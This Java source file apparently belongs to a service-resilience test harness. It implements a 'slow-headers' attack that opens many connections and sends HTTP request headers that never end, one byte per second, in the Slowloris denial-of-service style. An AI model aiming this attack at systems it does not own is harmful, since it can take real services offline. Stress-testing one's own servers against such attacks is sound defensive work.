package stockledger.trials.attack;

import java.net.URI;

/** Requests whose headers never end. */
final class SlowHeaders implements Attack {

    private static final int MANY = 10;

    @Override
    public String name() {
        return "slow-headers";
    }

    @Override
    public String description() {
        return "ten times as many connections with headers that never end, one byte per second";
    }

    @Override
    public AutoCloseable begin(URI url, int attackers) {
        return Trickle.begin(
                url,
                MANY * attackers,
                "GET /v1/products HTTP/1.1\r\nHost: " + url.getAuthority() + "\r\nX-Endless: ",
                "x",
                1);
    }
}
